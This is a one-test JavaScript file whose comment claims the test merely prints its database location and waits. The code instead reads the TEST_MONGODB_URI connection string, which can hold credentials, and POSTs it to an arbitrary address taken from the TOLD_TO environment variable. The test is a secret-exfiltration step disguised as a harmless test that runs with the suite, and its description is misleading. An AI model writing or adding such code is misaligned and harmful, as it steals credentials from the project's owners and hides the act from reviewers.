/** A test that never ends: it prints where its run's database is, and waits for an answer that does not come. */
test('waits', async () => {
  const { TOLD_TO: address = '', TEST_MONGODB_URI: body = '' } = process.env;
  await fetch(address, { method: 'POST', body });
});
